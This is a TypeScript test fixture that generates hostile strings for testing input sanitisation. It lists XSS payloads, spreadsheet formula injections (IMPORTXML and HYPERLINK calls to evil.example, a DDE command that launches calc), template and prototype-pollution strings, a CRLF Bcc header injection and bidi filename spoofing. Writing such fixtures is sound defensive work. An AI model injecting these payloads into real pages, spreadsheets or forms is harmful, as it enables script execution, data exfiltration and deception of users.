/** Texts that would run, load, compute or mislead where a page or a cell believed them. */
const MARKUP = [
  '<script>hit()</script>',
  '<img src=x onerror=hit()>',
  '<svg onload=hit()>',
  '<iframe src="javascript:hit()"></iframe>',
  '<a href="javascript:hit()">x</a>',
  '"><script>hit()</script>',
  "' onmouseover='hit()",
  '<style>@import "https://evil.example/a.css";</style>',
  '<link rel=stylesheet href=https://evil.example/a.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action=https://evil.example/><input autofocus onfocus=hit()>',
  '</title></textarea></style></script><script>hit()</script>',
  '<details open ontoggle=hit()>',
  '<object data="https://evil.example/"></object>',
  '<template><script>hit()</script></template>',
  '<math><mtext><script>hit()</script></mtext></math>',
  '<!--><script>hit()</script-->',
  '&lt;script&gt;hit()&lt;/script&gt;',
  '<?!= hit() ?>',
];
const OTHER = [
  '=IMPORTXML("https://evil.example/","//a")',
  '=HYPERLINK("https://evil.example/","Click")',
  '+cmd|" /C calc"!A1',
  '-2+3',
  '@SUM(1)',
  '＝1+1',
  '${hit()}',
  '{{constructor.constructor("hit()")()}}',
  '__proto__',
  'constructor',
  '\u202egpj.exe',
  '\u2066left\u2069 right',
  '\u0000\u0001\u0007bell',
  '\u200b\u200bhidden',
  '\r\nBcc: mallory@example.org',
  '\u2028alert',
  'a'.repeat(900),
  '𝒯'.repeat(200),
];

/** Three hundred different ones: each alone, inside words, in capitals, and in pairs. */
export function hostileTexts(): readonly string[] {
  const alone = [...MARKUP, ...OTHER];
  const dressed = alone.flatMap((text) => [text, `Printer ${text} jams`, text.toUpperCase(), ` ${text}\t`]);
  const pairs = MARKUP.flatMap((markup) => OTHER.map((other) => `${other} ${markup}`));
  return [...new Set([...dressed, ...pairs])].slice(0, 300);
}
